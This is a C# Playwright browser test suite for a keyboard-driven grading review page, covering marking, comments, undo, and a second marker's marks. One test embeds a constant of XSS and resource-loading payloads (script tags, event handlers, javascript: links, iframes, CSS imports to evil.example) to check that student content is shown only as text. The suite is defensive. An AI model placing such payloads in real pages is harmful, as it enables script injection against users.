using System.Text.Json.Nodes;
using ImageLearn.Grading.Gradebooks;
using ImageLearn.Notebooks.Documents;
using ImageLearn.Notebooks.Tests.Peers;
using Microsoft.Playwright;

namespace ImageLearn.Grading.Tests.Review;

/// <summary>The page in a real browser, driven by keyboard only.</summary>
public sealed class ReviewPageTests(Chromium chromium) : IClassFixture<Chromium>, IAsyncLifetime
{
    const string Svg = """<svg xmlns="http://www.w3.org/2000/svg" width="420" height="220" viewBox="0 0 420 220"><path d="M40 20V190H400" fill="none" stroke="#5b626d"/><path d="M40 40C90 160 200 180 400 185" fill="none" stroke="#1f5f8b" stroke-width="3"/><text x="200" y="212" font-size="14">epoch</text></svg>""";

    // Each would show itself: by a name on the window, a title, a dialog, or a request.
    const string Hostile = """
        <script>top.hacked = 1; window.hacked = 1</script><img src=x onerror="parent.hacked = 1; window.hacked = 1"><svg onload="parent.hacked = 1"><script>parent.hacked = 1</script></svg>
        <iframe srcdoc="<script>top.hacked = 1</script>"></iframe><iframe src="http://evil.example/frame"></iframe><object data="http://evil.example/object"></object><embed src="http://evil.example/embed">
        <meta http-equiv="refresh" content="0; url=http://evil.example/refresh"><base href="http://evil.example/"><link rel="stylesheet" href="http://evil.example/style.css"><link rel="prefetch" href="http://evil.example/prefetch">
        <style>@import url(http://evil.example/import.css); body { background: url(http://evil.example/background.png) } @font-face { font-family: x; src: url(http://evil.example/font) } p { font-family: x }</style>
        <form action="http://evil.example/form"><input name="a" autofocus onfocus="top.hacked = 1"><button id="submit">go</button></form><a id="link" href="http://evil.example/link" target="_top">link</a>
        <a id="script" href="javascript:top.hacked = 1">script</a><img src="http://evil.example/picture.png"><video src="http://evil.example/video" autoplay></video><details open ontoggle="top.hacked = 1"><summary>x</summary></details>
        <marquee onstart="top.hacked = 1">x</marquee></main></body></html><body onload="top.hacked = 1">
        """;

    readonly ReviewedClass _class = new();
    readonly List<string> _complaints = [];
    IPage _page = null!;

    public Task InitializeAsync() => Task.CompletedTask;

    public async Task DisposeAsync()
    {
        if (_page is not null) await _page.CloseAsync();
        await _class.DisposeAsync();
    }

    async Task OpenAsync(string marker = "ann")
    {
        _page = await chromium.NewPageAsync(1280);
        var address = (await _class.ServeAsync(marker)).Address;
        // What a policy stops never gets as far as this.
        await _page.RouteAsync(url => !url.StartsWith(address, StringComparison.Ordinal), async route =>
        {
            _complaints.Add(route.Request.Url);
            await route.AbortAsync();
        });
        _page.PageError += (_, error) => _complaints.Add(error);
        _page.Dialog += (_, dialog) => _complaints.Add(dialog.Message);
        await _page.GotoAsync(address);
        await SettledAsync();
    }

    /// <summary>Until all keys have done what they do, and the gradebook has it.</summary>
    async Task SettledAsync()
    {
        for (var i = 0; i < 500; i++)
        {
            if (await _page.EvaluateAsync<bool>("async () => { await typed; await tail; return answer !== null && waiting === 0; }")) return;
            await Task.Delay(20);
        }
        Assert.Fail($"The page has not come to rest: {await _page.InnerTextAsync("body")}");
    }

    async Task TypeAsync(params string[] keys)
    {
        foreach (var key in keys) await _page.Keyboard.PressAsync(key);
        await SettledAsync();
    }

    async Task LookAsync(string name)
    {
        if (Environment.GetEnvironmentVariable("IMAGELEARN_SCREENSHOTS") is { Length: > 0 } folder) await _page.ScreenshotAsync(new() { Path = Path.Combine(folder, $"review-{name}.png") });
    }

    Task<string> ShownAsync() => _page.EvaluateAsync<string>("() => answer.submission");

    ManualMark? MarkOf(string id) => _class.Book.StandingMarks().GetValueOrDefault((id, "Q1.2"));

    [ChromiumFact]
    public async Task Marking_by_keyboard()
    {
        var figure = new JsonObject { ["image/svg+xml"] = Svg, ["text/plain"] = "a falling curve" };
        for (var i = 0; i < 4; i++)
        {
            var code = NotebookText.Code("// loss by epoch\nvar chart = Chart.Line(epochs, losses, name: \"loss\");\nchart");
            code.Outputs.Add(CellOutput.Display(figure.DeepClone().AsObject(), []));
            _class.Submit($"s{i}", $"The residual is large **at the edge** ({i}), because the patch is not flat there: $r = I - a \\cdot x$.", i == 2 ? [FlagKind.Died] : null, code);
        }
        await OpenAsync();
        var first = await ShownAsync();
        Assert.Equal("s2", _class.Book.Submission(first)!.Student); // flagged first
        await TypeAsync("1", "2");
        Assert.Equal((3, "0,1", "ann"), (MarkOf(first)!.Points, string.Join(',', MarkOf(first)!.Criteria), MarkOf(first)!.Marker));
        await LookAsync("marked");

        await TypeAsync("Enter", "2"); // the mark belongs to the answer that Enter leads to
        var second = await ShownAsync();
        Assert.NotEqual(first, second);
        Assert.Equal((3, 2), (MarkOf(first)!.Points, MarkOf(second)!.Points));

        await TypeAsync("c");
        await _page.Keyboard.TypeAsync("Name the 1st region, 2 is right.");
        await TypeAsync("Escape", "p");
        Assert.Equal("Name the 1st region, 2 is right.", Assert.Single(_class.Book.Comments(second)).Text);
        await TypeAsync("Enter", "Shift+Digit1", "a");
        var third = await ShownAsync();
        Assert.Equal((4, "Name the 1st region, 2 is right."), (MarkOf(third)!.Points, Assert.Single(_class.Book.Comments(third)).Text));

        await TypeAsync("u"); // all criteria of the third
        Assert.Null(MarkOf(third));
        await TypeAsync("u", "u"); // its comment, and the comment of the second
        Assert.Empty(_class.Book.Comments());
        Assert.Equal(second, await ShownAsync());
        await TypeAsync("u", "u"); // the mark of the second, and one criterion of the first
        Assert.Equal((first, 1.0, (ManualMark?)null), (await ShownAsync(), MarkOf(first)!.Points, MarkOf(second)));

        await TypeAsync("e");
        await _page.Keyboard.PressAsync("Control+a");
        await _page.Keyboard.TypeAsync("2.5");
        await TypeAsync("Tab");
        await _page.Keyboard.TypeAsync("half right");
        await TypeAsync("Enter");
        Assert.Equal((2.5, "half right"), (MarkOf(first)!.Points, MarkOf(first)!.Reason));
        await TypeAsync("x", "f", "n");
        Assert.Null(MarkOf(first));
        Assert.Empty(_class.Book.Flags());
        Assert.NotEqual(first, await ShownAsync());
        await TypeAsync("q");
        Assert.Equal("Q1.1", await _page.EvaluateAsync<string>("() => question.id"));
        await TypeAsync("h");
        Assert.EndsWith("Family", await _page.InnerTextAsync("#name"));
        await LookAsync("code");
        await _page.Keyboard.PressAsync("?");
        await LookAsync("help");
        Assert.Empty(_complaints);
    }

    [ChromiumFact]
    public async Task Another_markers_mark_is_shown_and_not_written_over()
    {
        var id = _class.Submit("ada", "because");
        await OpenAsync();
        _class.Book.Mark(id, "Q1.2", 1, "bob", criteria: [0]);
        await TypeAsync("3");
        Assert.Equal("bob", MarkOf(id)!.Marker);
        Assert.Equal("bob has just given 1 point here. Yours was not written; give it again if it should count.", await _page.InnerTextAsync("#notice"));
        await LookAsync("two-markers");
        await TypeAsync("3");
        Assert.Equal(("ann", 2.0), (MarkOf(id)!.Marker, MarkOf(id)!.Points));
    }

    [ChromiumFact]
    public async Task What_a_student_writes_never_runs_and_asks_for_nothing()
    {
        var code = NotebookText.Code(Hostile);
        code.Outputs.Add(CellOutput.Display(new() { ["text/html"] = Hostile }, []));
        code.Outputs.Add(CellOutput.Display(new() { ["image/svg+xml"] = $"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"top.hacked = 1\"><a href=\"javascript:top.hacked = 1\"><text y=\"10\">x</text></a></svg>" }, []));
        code.Outputs.Add(CellOutput.Stream("stdout", Hostile));
        var id = _class.Submit("<img src=x onerror=hacked=1>", Hostile, null, code);
        _class.Book.Raise(id, "Q1.2", Hostile, "bob");
        _class.Book.Write(id, "Q1.2", Hostile, "bob");
        await OpenAsync();
        await TypeAsync("h");
        for (var i = 0; i < 250 && !_page.Frames.Any(frame => frame.Url.Contains("cells?")); i++) await Task.Delay(20);
        var frame = _page.Frames.Single(frame => frame.Url.Contains("cells?"));
        Assert.Contains("top.hacked", await frame.InnerTextAsync("pre")); // it is there, as text
        foreach (var what in (string[])["#script", "#link", "#submit"])
            await frame.Locator(what).First.ClickAsync(new() { Force = true });
        await _page.WaitForTimeoutAsync(500);
        await LookAsync("hostile");
        Assert.Equal("undefined Marking", await _page.EvaluateAsync<string>("() => typeof window.hacked + ' ' + document.title"));
        Assert.Contains("cells?", frame.Url);
        Assert.Empty(_complaints);
        Assert.Empty(_class.Book.ManualMarks());
        await TypeAsync("1"); // the keys still reach the page
        Assert.Equal(1, MarkOf(id)!.Points);
    }
}
